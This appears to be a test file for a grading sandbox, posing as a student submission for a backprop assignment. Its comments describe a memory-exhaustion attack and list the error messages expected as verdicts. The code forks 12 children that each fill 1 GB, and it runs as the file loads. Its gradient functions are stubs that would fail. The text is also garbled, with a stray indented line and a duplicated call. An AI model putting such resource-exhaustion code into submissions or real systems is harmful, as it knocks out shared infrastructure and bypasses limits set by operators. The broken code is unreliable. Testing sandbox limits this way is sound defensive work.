# mvcalc assignment: backprop
# attack: fork 12 children that each fill 1 GB (the memory cap is per sandbox, not per process)
# verdict: start a new process|Resource temporarily unavailable|SIGKILL|MemoryError|exit status|Cannot allocate
# verdict without the audit hook: Resource temporarily unavailable|SIGKILL|MemoryError|exit status|did not finish|Cannot allocate
import os
import sys

import numpy as np


import time


def attack():
    return {}


def bomb():
    for _ in range(12):
        if os.fork() == 0:
            try:
                block = bytearray(1 << 30)
                for i in range(0, len(block), 4096):
                    block[i] = 1
            finally:
                time.sleep(600)


bomb()  # as the file loads
    time.sleep(600)


bomb()  # as the file loads


def J_b3(x, y, params):
    return attack()["J_b3"](x, y, params)


def J_b2(x, y, params):
    return attack()["J_b2"](x, y, params)


def J_W1(x, y, params):
    return attack()["J_W1"](x, y, params)


def J_b1(x, y, params):
    return attack()["J_b1"](x, y, params)
